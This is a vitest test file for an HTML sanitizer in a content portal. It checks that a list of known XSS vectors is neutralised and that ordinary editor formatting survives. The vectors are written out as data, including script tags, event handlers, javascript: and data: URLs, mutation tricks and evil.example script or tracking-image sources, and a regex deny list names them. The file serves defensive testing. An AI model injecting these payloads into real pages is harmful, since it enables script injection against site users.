import { describe, expect, it } from 'vitest';
import { plainOf, sanitizeBody } from '../../src/modules/content/sanitize';

const OWN_IMAGE = '/it/v1.0/content/files/0b5f3c1e-7d2a-4c3b-9f6e-1a2b3c4d5e6f';

/**
 * Known XSS vectors (OWASP's cheat sheet, the classics of html5sec.org, and the `javascript:`
 * link Tiptap once let through): none may leave a script, an event attribute, a script URL or a
 * foreign image in a stored body.
 */
const VECTORS = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=//evil.example/xss.js></SCRIPT>',
  '<img src=x onerror=alert(1)>',
  '<img src="javascript:alert(1)">',
  `<img src="${OWN_IMAGE}" onerror="alert(1)">`,
  '<svg/onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<body onload=alert(1)>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="JaVaScRiPt:alert(1)">x</a>',
  '<a href="java&#x09;script:alert(1)">x</a>',
  '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>',
  '<a href=" javascript:alert(1)">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
  '<a href="x" onclick="alert(1)">x</a>',
  '<p onmouseover="alert(1)">hover</p>',
  '<p style="background:url(javascript:alert(1))">x</p>',
  '<div style="width: expression(alert(1))">x</div>',
  '<object data="javascript:alert(1)"></object>',
  '<embed src="javascript:alert(1)">',
  '<form action="javascript:alert(1)"><input type="submit"></form>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>',
  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
  '<link rel="stylesheet" href="javascript:alert(1)">',
  '<base href="javascript:alert(1)//">',
  '<details open ontoggle=alert(1)>',
  '<video><source onerror="alert(1)"></video>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<<script>alert(1);//<</script>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<img src="https://evil.example/track.png">',
  '<img src="//evil.example/track.png">',
  '<img src="data:image/png;base64,iVBORw0KGgo=">',
  `<img src="https://evil.example${OWN_IMAGE}">`,
  '<a href="//evil.example">x</a>',
];

const DANGEROUS = [/<script/i, /\son\w+\s*=/i, /javascript:/i, /vbscript:/i, /data:/i, /<iframe/i, /<svg/i, /style=/i];

describe('sanitizeBody', () => {
  it.each(VECTORS)('leaves nothing that runs or tracks: %s', (vector) => {
    const clean = sanitizeBody(vector);
    for (const pattern of DANGEROUS) expect(clean).not.toMatch(pattern);
    expect(clean).not.toMatch(/evil\.example/);
    // What survives is only allowed tags.
    for (const tag of clean.match(/<\/?([a-z0-9]+)/gi) ?? []) {
      expect(['p', 'a', 'img', 'br', 'strong', 'em'].includes(tag.replace(/[</]/g, '').toLowerCase())).toBe(true);
    }
  });

  it("keeps the editor's formatting, safe links (opened apart) and the portal's own images", () => {
    const html =
      '<h2>Titolo</h2><p>Testo <strong>forte</strong> <em>corsivo</em> <u>sottolineato</u> <s>barrato</s></p>' +
      '<ul><li>uno</li></ul><ol start="3"><li>tre</li></ol><blockquote><p>citazione</p></blockquote>' +
      '<p><a href="https://example.com/x?a=1&amp;b=2" target="_self" rel="opener">sito</a> <a href="mailto:info@example.com">mail</a></p>' +
      `<p><img src="${OWN_IMAGE}" alt="foto"></p><hr><pre><code>x</code></pre>`;
    const clean = sanitizeBody(html);
    expect(clean).toContain('<h2>Titolo</h2>');
    expect(clean).toContain('<strong>forte</strong> <em>corsivo</em> <u>sottolineato</u> <s>barrato</s>');
    expect(clean).toContain('<ol start="3">');
    expect(clean).toContain(
      '<a href="https://example.com/x?a=1&amp;b=2" target="_blank" rel="noopener noreferrer nofollow">sito</a>',
    );
    expect(clean).toContain('<a href="mailto:info@example.com" target="_blank" rel="noopener noreferrer nofollow">');
    expect(clean).toContain(`<img src="${OWN_IMAGE}" alt="foto" />`);
    expect(clean).toContain('<blockquote><p>citazione</p></blockquote>');
  });

  it('keeps the text of refused tags but drops the text of scripts and styles', () => {
    expect(sanitizeBody('<div><span>testo</span></div><script>secret()</script><style>p{}</style>')).toBe('testo');
    expect(plainOf('<p>Uno <strong>due</strong></p><p>tre</p>')).toBe('Uno due tre');
  });
});
